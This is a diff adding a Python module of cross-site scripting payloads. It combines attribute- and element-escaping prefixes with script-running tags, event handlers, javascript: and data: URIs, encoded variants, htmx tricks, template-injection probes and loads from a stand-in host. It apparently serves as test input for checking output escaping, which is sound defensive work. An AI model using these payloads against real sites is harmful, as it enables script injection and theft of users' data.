@@ -1,0 +1,73 @@
+"""Texts that run a script in a page that does not escape them: they call `alert`, or load something from elsewhere."""
+
+# What ends the place in which a text may stand: an attribute, an element with raw text, a comment.
+_ENDS = (
+    "",
+    '">',
+    "'>",
+    "</title>",
+    "</textarea>",
+    "</style>",
+    "</script>",
+    "--></svg>",
+    "]]>",
+    "</mark></a></template>",
+)
+
+_ELEMENTS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt/x>alert`1`</sCrIpT >",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<div hx-get=/search hx-trigger=load hx-on::before-request=alert(1)>x</div>",
+    "<video><source onerror=alert(1)></video>",
+    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
+)
+
+_OTHERS = (
+    '" onfocus=alert(1) autofocus tabindex=1 x="',
+    "' onmouseover='alert(1)' x='",
+    "` onclick=alert(1) `",
+    "x onpointerenter=alert(1) style=position:fixed;inset:0",
+    "javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "\x01javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:alert(1)",
+    "<base href=https://other.example/>",
+    "<link rel=stylesheet href=https://other.example/x.css>",
+    "<style>@import 'https://other.example/x.css';</style>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<img src=https://other.example/pixel.png>",
+    "<form action=https://other.example/><button>x",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<svg><script href=data:,alert(1) /></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><s><template shadowrootmode=open><script>alert(1)</script></template>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "{{ 7 * 191 }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "${7*191}#{7*191}",
+    "<div data-hx-get=https://other.example/ data-hx-trigger=load>x</div>",
+    "<div hx-vals='js:{x: alert(1)}' hx-post=/search hx-trigger=load>x</div>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "\u202e<script>alert(1)</script>",
+    "\u2028<script>alert(1)</script>\u2029",
+)
+
+PAYLOADS = (*(end + element for end in _ENDS for element in _ELEMENTS), *_OTHERS)
